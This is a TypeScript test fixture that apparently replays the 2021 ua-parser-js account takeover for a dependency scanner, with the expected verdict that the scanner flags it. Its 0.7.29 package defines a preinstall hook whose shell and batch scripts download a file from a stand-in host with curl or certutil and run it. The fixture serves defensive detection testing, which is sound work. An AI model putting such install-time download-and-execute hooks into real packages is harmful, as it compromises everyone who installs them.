import type { Replay } from '../replay.js'

const line = '"version": "0.7.29",'
const finding = (rule: string, severity: 'critical' | 'high') =>
  ({ rule, severity, package: 'ua-parser-js', file: 'package-lock.json', line }) as const

export const replay: Replay = {
  description:
    'A taken-over account released three lines of ua-parser-js at once; before installation a script fetched a program and started it, ' +
    'with a shell on Linux and a batch file on Windows.',
  date: '2021-10-22',
  packages: {
    'ua-parser-js': {
      '0.7.28': { files: { 'index.js': 'module.exports = 1\n' } },
      '0.7.29': {
        manifest: { scripts: { preinstall: 'sh preinstall.sh || preinstall.bat' } },
        files: {
          'index.js': 'module.exports = 1\n',
          'preinstall.sh': 'curl https://cdn.example/inert -o inert\nchmod +x inert\n./inert\n',
          'preinstall.bat':
            '@echo off\r\ncertutil -urlcache -f https://cdn.example/inert inert.exe\r\nstart /B inert.exe\r\n',
        },
      },
    },
  },
  base: { manifest: { dependencies: { 'ua-parser-js': '^0.7.28' } }, locked: { 'ua-parser-js': '0.7.28' } },
  head: { manifest: { dependencies: { 'ua-parser-js': '^0.7.28' } }, locked: { 'ua-parser-js': '0.7.29' } },
  expected: {
    verdict: 'flagged',
    findings: [finding('install-script-dangerous', 'critical'), finding('install-script-added', 'high')],
  },
}
